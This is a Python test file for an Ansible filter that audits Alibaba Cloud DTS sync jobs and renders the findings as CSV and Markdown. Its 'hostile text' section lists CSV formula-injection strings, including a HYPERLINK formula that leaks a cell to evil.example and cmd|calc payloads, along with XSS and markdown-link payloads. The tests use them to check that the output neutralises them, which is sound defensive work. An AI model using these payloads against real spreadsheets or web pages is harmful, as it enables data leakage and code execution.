# -*- coding: utf-8 -*-
# GNU General Public License v3.0+ (see https://www.gnu.org/licenses/gpl-3.0.txt)
"""The audit's rules: which records need a human, for both API families, and what the report counts."""

import csv
import io
import re
import unicodedata
from collections.abc import Mapping
from html.parser import HTMLParser

import pytest
from ansible.errors import AnsibleFilterError
from ansible.inventory.manager import InventoryManager
from ansible.parsing.dataloader import DataLoader
from ansible.vars.hostvars import HostVars
from ansible.vars.manager import VariableManager
from hypothesis import given, settings, strategies as st
from markdown_it import MarkdownIt

from ansible_collections.alibabacloud.dts.plugins.filter.dts_audit import (
    FilterModule,
    dts_audit_csv,
    dts_audit_markdown,
    dts_audit_records,
    dts_audit_report,
    host_var_name,
    job_record,
)

NOW = '2026-06-01T00:00:00Z'


def legacy(job_id='dtslegacy0001', direction='Forward', **facts):
    """Host variables of a legacy-family job, as the inventory sets them (dts_ prefix)."""
    host = {
        'dts_api': 'legacy',
        'dts_synchronization_job_id': job_id,
        'dts_synchronization_job_name': 'orders',
        'dts_synchronization_direction': direction,
        'dts_status': 'Synchronizing',
        'dts_delay': 0,
        'dts_error_message': None,
        'dts_pay_type': 'PostPaid',
        'dts_expire_time': None,
        'dts_region': 'cn-hangzhou',
        'dts_tags': {},
    }
    host.update(('dts_' + name, value) for name, value in facts.items())
    return host


def current(job_id='j0001', instance_id='dtsj0001', direction='Forward', **facts):
    """Host variables of a current-family job: its id facts already start with dts_."""
    host = {
        'dts_api': 'current',
        'dts_job_id': job_id,
        'dts_instance_id': instance_id,
        'dts_job_name': 'payments',
        'dts_job_direction': direction,
        'dts_status': 'Synchronizing',
        'dts_delay': 0,
        'dts_checkpoint': 1,
        'dts_error_message': None,
        'dts_pay_type': 'PostPaid',
        'dts_expire_time': None,
        'dts_region': 'cn-hangzhou',
        'dts_tags': {},
    }
    host.update(('dts_' + name, value) for name, value in facts.items())
    return host


def report(records, **options):
    options.setdefault('now', NOW)
    return dts_audit_report(records, **options)


def test_the_filters_are_registered_under_their_names():
    assert sorted(FilterModule().filters()) == [
        'dts_audit_csv',
        'dts_audit_files',
        'dts_audit_markdown',
        'dts_audit_records',
        'dts_audit_report',
    ]


@pytest.mark.parametrize(
    'fact, prefix, suffix, name',
    [
        ('status', 'dts_', '', 'dts_status'),
        ('dts_job_id', 'dts_', '', 'dts_job_id'),
        ('synchronization_job_id', 'dts_', '', 'dts_synchronization_job_id'),
        ('status', '', '', 'status'),
        ('dts_job_id', 'job_', '_x', 'job_dts_job_id_x'),
        ('status', 'job_', '_x', 'job_status_x'),
    ],
)
def test_host_variable_names_follow_the_inventory(fact, prefix, suffix, name):
    assert host_var_name(fact, prefix, suffix) == name


def test_a_legacy_record_fills_the_common_columns_with_its_own_facts():
    record = job_record(legacy('dtsabc', 'Reverse', status='synchronizing', delay='12', account_ignored=1))
    assert record == {
        'account': '',
        'region': 'cn-hangzhou',
        'api': 'legacy',
        'job_id': 'dtsabc',
        'instance_id': 'dtsabc',
        'job_name': 'orders',
        'direction': 'Reverse',
        'status': 'Synchronizing',
        'delay': 12,
        'error_message': '',
        'pay_type': 'PostPaid',
        'expire_time': '',
        'precheck_failures': [],
    }


def test_a_current_record_fills_the_same_columns_with_the_current_facts():
    host = current(
        'ta7w132u12h', 'dtsta7w132u12h', 'Reverse', status='FAILED', delay=None, error_message='DTS-1: broken'
    )
    host['dts_account'] = 'prod'
    record = job_record(host)
    assert (record['api'], record['job_id'], record['instance_id'], record['job_name'], record['direction']) == (
        'current',
        'ta7w132u12h',
        'dtsta7w132u12h',
        'payments',
        'Reverse',
    )
    assert (record['account'], record['status'], record['delay'], record['error_message']) == (
        'prod',
        'Failed',
        None,
        'DTS-1: broken',
    )


def test_the_family_is_the_id_a_host_has_when_the_inventory_does_not_say():
    old = legacy()
    del old['dts_api']
    new = current()
    del new['dts_api']
    assert job_record(old)['api'] == 'legacy'
    assert job_record(new)['api'] == 'current'
    assert job_record({'ansible_host': 'db1', 'dts_status': 'Failed'}) is None


def test_other_prefixes_and_suffixes_are_read_where_the_inventory_put_them():
    host = dict(('job_' + key[4:] + '_v', value) for key, value in legacy().items() if key != 'dts_api')
    host['dts_api'] = 'legacy'
    assert job_record(host, 'job_', '_v')['job_id'] == 'dtslegacy0001'
    assert job_record(host) is None


def test_failed_precheck_items_of_both_families():
    legacy_precheck = {
        'detail': [
            {
                'item_name': 'CHECK_CONN_SRC',
                'check_status': 'Failed',
                'error_message': 'denied',
                'repair_method': 'grant',
            },
            {'item_name': 'CHECK_ENGINE', 'check_status': 'Success'},
        ]
    }
    current_precheck = {
        'status': 'Failed',
        'detail': [
            {
                'check_item': 'CHECK_BINLOG_ON',
                'check_result': 'failed',
                'failed_reason': 'binlog off',
                'repair_method': 'on',
            },
            {'check_item': 'CHECK_SAME_OBJ', 'check_result': 'Success'},
        ],
    }
    assert job_record(legacy(precheck_status=legacy_precheck))['precheck_failures'] == [
        {'item_name': 'CHECK_CONN_SRC', 'detail': 'denied', 'repair_method': 'grant'}
    ]
    assert job_record(current(precheck_status=current_precheck))['precheck_failures'] == [
        {'item_name': 'CHECK_BINLOG_ON', 'detail': 'binlog off', 'repair_method': 'on'}
    ]
    assert job_record(current(precheck_status=None))['precheck_failures'] == []


@pytest.mark.parametrize(
    'wire, seconds',
    [(0, 0), ('45', 45), (-1, None), (None, None), ('', None), ('soon', None), (True, None), (12.0, 12)],
)
def test_delays_are_whole_seconds_or_none(wire, seconds):
    assert job_record(legacy(delay=wire))['delay'] == seconds


def test_records_are_read_from_every_host_that_is_a_job_and_sorted():
    hosts = {
        'b': legacy('dtsb', region='cn-beijing'),
        'a_reverse': legacy('dtsa', 'Reverse'),
        'a': legacy('dtsa'),
        'localhost': {'ansible_connection': 'local'},
        'c': current('c1', 'dtsc1'),
    }
    records = dts_audit_records(hosts)
    assert [(r['region'], r['job_id'], r['direction']) for r in records] == [
        ('cn-beijing', 'dtsb', 'Forward'),
        ('cn-hangzhou', 'c1', 'Forward'),
        ('cn-hangzhou', 'dtsa', 'Forward'),
        ('cn-hangzhou', 'dtsa', 'Reverse'),
    ]
    assert [r['job_id'] for r in dts_audit_records(hosts, hosts=['a', 'missing', 'localhost'])] == ['dtsa']


def test_a_job_both_families_list_is_audited_once_as_the_current_family_describes_it():
    hosts = {
        'old': legacy('dtsboth', status='Failed'),
        'new': current('both', 'dtsboth', status='Synchronizing'),
        'old_reverse': legacy('dtsboth', 'Reverse'),
    }
    records = dts_audit_records(hosts, hosts=['new', 'old', 'old_reverse'])
    assert [(r['api'], r['job_id'], r['direction'], r['status']) for r in records] == [
        ('current', 'both', 'Forward', 'Synchronizing'),
        ('legacy', 'dtsboth', 'Reverse', 'Synchronizing'),
    ]


class OnlyJobFacts(Mapping):
    """A host whose other variables must not be read: the magic groups and the like."""

    def __init__(self, facts):
        self.facts = facts

    def __contains__(self, key):
        return True if key == 'groups' else key in self.facts

    def __getitem__(self, key):
        if key not in self.facts:
            raise AssertionError('the audit read %s' % key)
        return self.facts[key]

    def __iter__(self):
        raise AssertionError('the audit listed every variable of a host')

    def __len__(self):
        return len(self.facts) + 1


def test_only_the_job_facts_of_a_host_are_read():
    hosts = dict(('h%d' % index, OnlyJobFacts(legacy('dts%d' % index))) for index in range(3))
    assert len(dts_audit_records(hosts)) == 3


def test_ansibles_hostvars_are_read_from_the_inventory_without_building_variable_sets():
    loader = DataLoader()
    inventory = InventoryManager(loader=loader, sources=[])
    for name, facts in (('dtsa', legacy('dtsa')), ('c1', current('c1', 'dtsc1', status='failed'))):
        inventory.add_host(name)
        for key, value in facts.items():
            inventory._inventory.set_variable(name, key, value)

    class NoVariableSets(VariableManager):
        def get_vars(self, *args, **kwargs):
            raise AssertionError('a whole variable set was built')

    hostvars = HostVars(inventory, NoVariableSets(loader=loader, inventory=inventory), loader)
    records = dts_audit_records(hostvars)
    assert [(r['api'], r['job_id'], r['status']) for r in records] == [
        ('current', 'c1', 'Failed'),
        ('legacy', 'dtsa', 'Synchronizing'),
    ]
    assert dts_audit_records(hostvars, hosts=['dtsa', 'nowhere'])[0]['job_id'] == 'dtsa'


@pytest.mark.parametrize(
    'hostvars, options, message',
    [
        ([legacy()], {}, 'expects hostvars'),
        ({}, {'hosts': 'all'}, 'hosts must be a list'),
        ({}, {'prefix': None}, 'prefix and suffix must be strings'),
    ],
)
def test_records_refuse_what_is_not_hostvars(hostvars, options, message):
    with pytest.raises(AnsibleFilterError, match=message):
        dts_audit_records(hostvars, **options)


def findings(result, reason):
    return [(f['job_id'], f['direction'], f['detail']) for f in result['findings'][reason]]


def test_failed_statuses_are_reported_with_their_error_message():
    records = dts_audit_records(
        {
            'a': legacy('dtsa', status='Failed', error_message='DTS-070211: timed out'),
            'b': current('b', 'dtsb', status='precheckfailed'),
            'c': legacy('dtsc', status='Suspending'),
        }
    )
    assert findings(report(records), 'failed') == [('b', 'Forward', ''), ('dtsa', 'Forward', 'DTS-070211: timed out')]
    assert findings(report(records, failed_statuses=['suspending']), 'failed') == [('dtsc', 'Forward', '')]


def test_delay_over_the_threshold_longest_first():
    records = dts_audit_records(
        {
            'a': legacy('dtsa', delay=301),
            'b': legacy('dtsb', delay=300),
            'c': current('c', 'dtsc', delay=4000),
            'd': current('d', 'dtsd', delay=None),
        }
    )
    assert findings(report(records), 'delay') == [('c', 'Forward', '4000 s'), ('dtsa', 'Forward', '301 s')]
    assert findings(report(records, max_delay=0), 'delay')[-1] == ('dtsb', 'Forward', '300 s')


def test_prepaid_jobs_expiring_within_the_days_soonest_first_in_either_familys_time_format():
    records = dts_audit_records(
        {
            'gone': legacy('dtsgone', pay_type='PrePaid', expire_time='2026-05-31T23:59:59Z'),
            'soon': current('soon', 'dtssoon', pay_type='PrePaid', expire_time='2026-06-10T08:01:31.000+00:00'),
            'later': legacy('dtslater', pay_type='PrePaid', expire_time='2026-06-20T00:00:00Z'),
            'postpaid': legacy('dtspost', pay_type='PostPaid', expire_time='2026-06-02T00:00:00Z'),
            'unknown': legacy('dtsunknown', pay_type='PrePaid', expire_time='next year'),
        }
    )
    result = report(records)
    assert findings(result, 'expiring') == [
        ('dtsgone', 'Forward', 'expired'),
        ('soon', 'Forward', 'expires 2026-06-10T08:01:31Z'),
    ]
    assert [f['expire_time'] for f in result['findings']['expiring']] == [
        '2026-05-31T23:59:59Z',
        '2026-06-10T08:01:31Z',
    ]
    assert result['expiry_cutoff'] == '2026-06-15T00:00:00Z'
    assert [f[0] for f in findings(report(records, expiry_days=30), 'expiring')] == ['dtsgone', 'soon', 'dtslater']


def test_one_finding_per_failed_precheck_item():
    precheck = {
        'detail': [
            {
                'item_name': 'CHECK_CONN_SRC',
                'check_status': 'Failed',
                'error_message': 'denied',
                'repair_method': 'grant',
            },
            {'item_name': 'CHECK_AUTH_SRC', 'check_status': 'Failed', 'error_message': 'no auth', 'repair_method': ''},
        ]
    }
    result = report(dts_audit_records({'a': legacy('dtsa', status='PrecheckFailed', precheck_status=precheck)}))
    assert [(f['item_name'], f['detail'], f['repair_method']) for f in result['findings']['precheck']] == [
        ('CHECK_CONN_SRC', 'denied', 'grant'),
        ('CHECK_AUTH_SRC', 'no auth', ''),
    ]
    assert result['counts'] == {
        'failed': 1,
        'precheck': 2,
        'delay': 0,
        'expiring': 0,
        'alert': 0,
        'validation': 0,
        'refused': 0,
    }
    assert result['attention'] == 1


def test_counts_jobs_records_families_and_the_jobs_that_need_a_human():
    records = dts_audit_records(
        {
            'a': legacy('dtsa', status='Failed'),
            'a_reverse': legacy('dtsa', 'Reverse', status='Failed'),
            'b': current('b', 'dtsb', delay=900),
            'c': current('c', 'dtsc', status='Retrying'),
        }
    )
    result = report(records)
    assert (result['records'], result['jobs'], result['attention']) == (4, 3, 2)
    assert result['apis'] == {'legacy': 2, 'current': 2}
    assert result['statuses'] == ['Synchronizing', 'Failed', 'Retrying']
    assert result['generated'] == NOW


def test_every_region_the_inventory_listed_is_reported_an_empty_one_with_zero_and_refusals_named():
    records = dts_audit_records({'a': legacy('dtsa'), 'b': legacy('dtsb', status='Failed')})
    regions = [
        {'account': '', 'region': 'cn-hangzhou', 'jobs': 2, 'refused': False, 'code': None, 'message': None},
        {'account': '', 'region': 'us-west-1', 'jobs': 0, 'refused': False, 'code': None, 'message': None},
        {
            'account': '',
            'region': 'cn-beijing',
            'jobs': 0,
            'refused': True,
            'code': 'Forbidden.RAM',
            'message': 'not authorized',
        },
    ]
    result = report(records, regions=regions)
    assert [(r['region'], r['records'], r['statuses'], r['listed']) for r in result['audited']] == [
        ('cn-hangzhou', 2, {'Synchronizing': 1, 'Failed': 1}, 2),
        ('us-west-1', 0, {}, 0),
    ]
    assert [(r['region'], r['code'], r['message']) for r in result['refused']] == [
        ('cn-beijing', 'Forbidden.RAM', 'not authorized')
    ]
    assert [(f['region'], f['status'], f['detail']) for f in result['findings']['refused']] == [
        ('cn-beijing', 'Forbidden.RAM', 'not authorized')
    ]


def test_a_region_whose_listing_failed_makes_the_report_incomplete_naming_it_and_its_error():
    records = dts_audit_records({'a': dict(legacy('dtsa'), dts_account='prod')})
    regions = [
        {'account': 'prod', 'region': 'cn-hangzhou', 'jobs': 1, 'refused': False, 'failed': False},
        {
            'account': 'prod',
            'region': 'cn-beijing',
            'jobs': 0,
            'refused': False,
            'failed': True,
            'code': 'Throttling.User',
            'request_id': 'REQ-9',
            'message': 'DescribeDtsJobs failed: Throttling.User: denied (RequestId REQ-9)',
        },
    ]
    result = report(records, regions=regions)
    assert [(r['region'], r['code'], r['request_id']) for r in result['failed']] == [
        ('cn-beijing', 'Throttling.User', 'REQ-9')
    ]
    # Not audited, not refused: missing.
    assert [r['region'] for r in result['audited']] == ['cn-hangzhou'] and result['refused'] == []
    assert result['incomplete'] == [
        'region cn-beijing of account prod: DescribeDtsJobs failed: Throttling.User: denied (RequestId REQ-9)'
    ]


def test_an_inventory_that_listed_nothing_is_incomplete_and_a_whole_one_is_not():
    assert report([], regions=[])['incomplete'] == [
        'the inventory listed no DTS region: is it a dts_sync_jobs inventory, and did it parse (see its warnings)?'
    ]
    assert report([])['incomplete'] != []
    whole = report([], regions=[{'account': '', 'region': 'us-west-1', 'jobs': 0, 'refused': False}])
    assert whole['incomplete'] == [] and whole['failed'] == []
    refused = report(
        [],
        regions=[
            {
                'account': '',
                'region': 'cn-beijing',
                'jobs': 0,
                'refused': True,
                'code': 'Forbidden.RAM',
                'message': 'no',
            }
        ],
    )
    assert refused['incomplete'] == []  # a refusal is reported apart, as before


def test_without_the_inventorys_regions_the_regions_are_those_with_jobs_and_those_refused():
    records = dts_audit_records({'a': legacy('dtsa'), 'b': dict(legacy('dtsb', region='cn-beijing'), dts_account='x')})
    refused = [{'account': 'x', 'region': 'ap-southeast-1', 'code': 'Forbidden.RAM', 'message': 'no'}]
    result = report(records, refused=refused)
    assert [(r['account'], r['region'], r['refused']) for r in result['regions']] == [
        ('', 'cn-hangzhou', False),
        ('x', 'ap-southeast-1', True),
        ('x', 'cn-beijing', False),
    ]
    assert result['accounts'] == ['x']


def test_a_region_refused_in_regions_takes_its_code_from_the_refused_list_when_it_has_none():
    refused = [{'account': '', 'region': 'cn-beijing', 'code': 'Forbidden.RAM', 'message': 'no'}]
    result = report([], regions=[{'region': 'cn-beijing', 'jobs': 0, 'refused': True}], refused=refused)
    assert [(r['region'], r['code'], r['message']) for r in result['refused']] == [
        ('cn-beijing', 'Forbidden.RAM', 'no')
    ]


@pytest.mark.parametrize(
    'options, message',
    [
        ({'max_delay': 'soon'}, 'max_delay must be a whole number'),
        ({'max_delay': -1}, 'max_delay must be a whole number'),
        ({'expiry_days': True}, 'expiry_days must be a whole number'),
        ({'failed_statuses': 'Failed'}, 'failed_statuses must be a list'),
        ({'regions': {'region': 'cn-hangzhou'}}, 'regions must be a list'),
        ({'regions': [{'jobs': 1}]}, 'needs a region'),
        ({'now': 'yesterday'}, 'now must be an ISO 8601 time'),
    ],
)
def test_the_report_refuses_bad_settings_naming_them(options, message):
    with pytest.raises(AnsibleFilterError, match=message):
        report([], **options)


def test_settings_given_as_strings_work_as_the_playbooks_extra_vars_give_them():
    records = dts_audit_records({'a': legacy('dtsa', delay=700)})
    assert report(records, max_delay='600', expiry_days='3')['counts']['delay'] == 1


def test_csv_quotes_every_field_doubles_quotes_and_keeps_each_row_on_one_line():
    rows = [
        {'reason': 'failed', 'detail': 'type "geometry"\r\ndoes not exist', 'delay': 0},
        {'reason': 'refused', 'detail': None},
    ]
    assert dts_audit_csv(rows, ['reason', {'key': 'detail'}, 'delay']) == (
        'reason,detail,delay\n"failed","type ""geometry"" does not exist","0"\n"refused","",""\n'
    )
    assert dts_audit_csv([], ['a'], header=False) == ''


def test_markdown_tables_escape_cells_and_format_columns():
    rows = [
        {'region': 'cn-hangzhou', 'job_id': 'j1', 'detail': 'a | b\nc', 'statuses': {'Failed': 2}},
        {'region': 'us-west-1', 'job_id': '', 'detail': '', 'statuses': {}},
    ]
    table = dts_audit_markdown(
        rows,
        [
            'region',
            {'key': 'job_id', 'heading': 'job', 'code': True},
            {'key': 'detail', 'empty': '-'},
            {'key': 'statuses.Failed', 'heading': 'Failed', 'numeric': True},
        ],
    )
    assert table.splitlines() == [
        '| region | job | detail | Failed |',
        '| --- | --- | --- | ---: |',
        '| cn-hangzhou | `j1` | a &#124; b c | 2 |',
        '| us-west-1 |  | - | 0 |',
    ]


def test_a_status_spelled_with_a_dot_is_found_under_its_own_name():
    rows = [{'statuses': {'Odd.Status': 3, 'Odd': {'Status': 9}}}, {'statuses': {'Failed': 1}}]
    columns = [{'key': 'statuses.Odd.Status', 'numeric': True}, {'key': 'statuses.Failed.x', 'numeric': True}]
    assert dts_audit_markdown(rows, columns).splitlines()[2:] == ['| 3 | 0 |', '| 0 | 0 |']


# -- hostile text: whatever a job's creator writes into a name, a tag, an error message or a status ---

FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=1+1',
    '\t=1+1',
    '\r=1+1',
    '\n@SUM(A1)',
    '   =1+1',
    '\u00a0=1+1',  # no-break space
    '\u3000=1+1',  # ideographic space
    '\u200b=1+1',  # zero-width space
    '\ufeff=1+1',  # byte order mark
    '\x00=1+1',
    '\uff1d1+1',  # full-width =
    '\uff0bcmd|x',  # full-width +
    '\uff0d1',  # full-width -
    '\uff20SUM(A1)',  # full-width @
    '\ufe661+1',  # small =
    '\u2212 1',  # minus sign
    '-',
]
INERT_TEXT = ['orders-sync', 'a=b', 'DTS-070211: Connect Source DB failed', "it's", '', '1-2', 'cn-hangzhou']


def read_csv(text):
    return list(csv.reader(io.StringIO(text, newline='')))


# Every character a spreadsheet might skip before it looks for a formula: blanks, controls, format characters.
BLANKS = ''.join(
    chr(code) for code in range(0x110000) if chr(code).isspace() or unicodedata.category(chr(code)) in ('Cc', 'Cf')
)


def starts_a_formula(cell):
    """What a spreadsheet would evaluate: the first character that is not blank is a formula start."""
    first = cell.lstrip(BLANKS)[:1]
    return bool(first) and unicodedata.normalize('NFKC', first) in ('=', '+', '-', '@', '\u2212')


@pytest.mark.parametrize('value', FORMULAS)
def test_csv_text_a_spreadsheet_would_evaluate_starts_with_an_apostrophe(value):
    text = dts_audit_csv([{'job_name': value, 'detail': 'x'}], ['job_name', 'detail'])
    rows = read_csv(text)
    assert len(rows) == 2 and len(text.splitlines()) == 2, 'one line a row'
    cell = rows[1][0]
    assert cell.startswith("'"), cell
    assert cell[1:] == one_line(value)
    assert not starts_a_formula(cell)


@pytest.mark.parametrize('value', INERT_TEXT)
def test_csv_text_a_spreadsheet_shows_as_it_is_stays_as_it_is(value):
    assert read_csv(dts_audit_csv([{'job_name': value}], ['job_name'], header=False)) == [[value]]


def test_csv_numbers_the_audit_counts_stay_numbers_and_text_that_looks_like_one_does_not():
    rows = [
        {'records': 3, 'delay': -5, 'ratio': -0.5, 'flag': True, 'name': '-5', 'status': '+1', 'odd': float('-inf')}
    ]
    assert read_csv(
        dts_audit_csv(rows, ['records', 'delay', 'ratio', 'flag', 'name', 'status', 'odd'], header=False)
    ) == [['3', '-5', '-0.5', 'True', "'-5", "'+1", "'-inf"]]


def test_a_cell_that_tries_to_open_another_stays_one_cell():
    value = 'x","=HYPERLINK(""http://evil.example"")\n=1+1,@SUM(A1);-1'
    rows = read_csv(dts_audit_csv([{'a': value, 'b': 'next'}], ['a', 'b']))
    assert rows[1] == [value.replace('\n', ' '), 'next']
    assert all(not starts_a_formula(cell) for row in rows for cell in row)


def test_csv_headings_are_neutralised_too():
    assert read_csv(dts_audit_csv([], [{'key': 'a', 'heading': '=1+1'}]))[0] == ["'=1+1"]


@settings(max_examples=300, deadline=None)
@given(st.text(), st.one_of(st.integers(), st.floats(allow_nan=False, allow_infinity=False), st.text()))
def test_no_csv_cell_starts_a_formula_and_every_cell_keeps_its_text(text, other):
    rows = read_csv(dts_audit_csv([{'a': text, 'b': other}], ['a', 'b'], header=False))
    assert len(rows) == 1 and len(rows[0]) == 2
    for cell, value in zip(rows[0], (text, other)):
        if isinstance(value, (int, float)):
            assert cell == str(value)
            continue
        assert not starts_a_formula(cell)
        assert cell in (one_line(value), "'" + one_line(value))


# The Markdown a reader sees: markdown-it-py renders CommonMark with GitHub's tables and strikethrough,
# raw HTML passed through as a CommonMark renderer does. The report must come out as table markup and
# text, whatever the cells hold.
RENDERER = MarkdownIt('commonmark').enable(['table', 'strikethrough'])
TABLE_TAGS = {'table', 'thead', 'tbody', 'tr', 'th', 'td', 'code'}

MARKUP = [
    '<script>alert(1)</script>',
    '<img src=x onerror=alert(1)>',
    '<b>bold</b> &amp; &lt;i&gt; &#124; &copy;',
    '[click here](http://evil.example/reset)',
    '![pixel](http://evil.example/p.png)',
    '[ref]: http://evil.example',
    '<http://evil.example>',
    'see https://evil.example/x and www.evil.example and mailto:me@evil.example',
    'a | b || c |',
    'first line\nsecond line\r\nthird\u2028fourth',
    '`code` and ``two``',
    '**bold** __bold__ *em* _em_ ~~gone~~',
    'back\\slash \\| \\',
    'trailing backslash\\',
    '\\`x\\`',
    '\u202eexe.txt',
    '# not a heading',
    '- not a list',
    '| --- | --- |',
    '=HYPERLINK("http://evil.example")',
]


class _Table(HTMLParser):
    """The tags of rendered HTML and the text of each table cell, row by row."""

    def __init__(self, html):
        super().__init__(convert_charrefs=True)
        self.tags, self.rows, self._cell = set(), [], None
        self.feed(html)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.tags.add(tag)
        if tag == 'tr':
            self.rows.append([])
        elif tag in ('td', 'th'):
            self._cell = []

    def handle_endtag(self, tag):
        if tag in ('td', 'th'):
            self.rows[-1].append(''.join(self._cell))
            self._cell = None

    def handle_data(self, data):
        if self._cell is not None:
            self._cell.append(data)


def rendered(markdown):
    return _Table(RENDERER.render(markdown))


def one_line(value):
    return re.sub('[\x00-\x1f\x7f-\x9f\u2028\u2029\u202a-\u202e\u2066-\u2069]+', ' ', value)


@pytest.mark.parametrize('value', MARKUP + FORMULAS)
@pytest.mark.parametrize('code', [False, True])
def test_markdown_cells_render_as_the_text_they_hold(value, code):
    columns = [{'key': 'region'}, {'key': 'value', 'heading': value, 'code': code}, {'key': 'after'}]
    table = rendered(dts_audit_markdown([{'region': 'cn-hangzhou', 'value': value, 'after': 'end'}], columns))
    assert table.tags <= TABLE_TAGS, table.tags
    assert table.rows == [['region', one_line(value).strip(), 'after'], ['cn-hangzhou', one_line(value).strip(), 'end']]


def test_markdown_breaks_the_addresses_github_would_make_links():
    # GitHub links bare addresses (its autolink extension), which markdown-it-py leaves to a plugin.
    table = dts_audit_markdown([{'a': 'https://evil.example www.evil.example WWW.evil.example me@evil.example'}], ['a'])
    assert table.splitlines()[2] == '| https\\://evil.example www\\.evil.example WWW\\.evil.example me\\@evil.example |'


@settings(max_examples=300, deadline=None)
@given(st.text(), st.booleans())
def test_no_markdown_cell_renders_markup_or_breaks_the_table(text, code):
    columns = [{'key': 'a'}, {'key': 'b', 'code': code}, {'key': 'c'}]
    table = rendered(dts_audit_markdown([{'a': 'x', 'b': text, 'c': 'y'}], columns))
    assert table.tags <= TABLE_TAGS, table.tags
    assert len(table.rows) == 2 and table.rows[1][0] == 'x' and table.rows[1][2] == 'y', table.rows
    assert table.rows[1][1].strip() == one_line(text).strip()


def test_a_report_of_hostile_jobs_is_inert_in_both_formats():
    hostile = "<img src=x onerror=alert(1)> [x](http://evil.example) | =cmd|' /C calc'!A0\n+1"
    hostvars = {
        'a': legacy(
            'dtsa', synchronization_job_name='=HYPERLINK("http://evil.example")', status='Failed', error_message=hostile
        ),
        'b': current('j2', 'dtsj2', job_name='@SUM(A1) <script>x</script>', status='<b>Odd</b>', delay=900),
    }
    audit = report(dts_audit_records(hostvars))
    findings = audit['findings']['failed'] + audit['findings']['delay']
    assert len(findings) == 2
    columns = ['job_name', 'status', 'delay', 'detail']
    for row in read_csv(dts_audit_csv(findings, columns))[1:]:
        assert not any(starts_a_formula(cell) for cell in row), row
    assert read_csv(dts_audit_csv(findings, columns))[1:] == [
        ['\'=HYPERLINK("http://evil.example")', 'Failed', '0', one_line(hostile)],
        ["'@SUM(A1) <script>x</script>", '<b>Odd</b>', '900', '900 s'],
    ]
    status_columns = [{'key': 'statuses.' + status, 'heading': status, 'numeric': True} for status in audit['statuses']]
    for table, texts in (
        (dts_audit_markdown(findings, columns), [one_line(hostile).strip()]),
        (dts_audit_markdown(audit['audited'], ['region'] + status_columns), ['<b>Odd</b>']),
    ):
        parsed = rendered(table)
        assert parsed.tags <= TABLE_TAGS, parsed.tags
        cells = [cell for row in parsed.rows for cell in row]
        assert all(text in cells for text in texts), cells


@pytest.mark.parametrize('render', [dts_audit_csv, dts_audit_markdown])
@pytest.mark.parametrize('columns', ['region', [{'heading': 'no key'}], [3]])
def test_renderers_refuse_columns_without_keys(render, columns):
    with pytest.raises(AnsibleFilterError, match='column'):
        render([], columns)
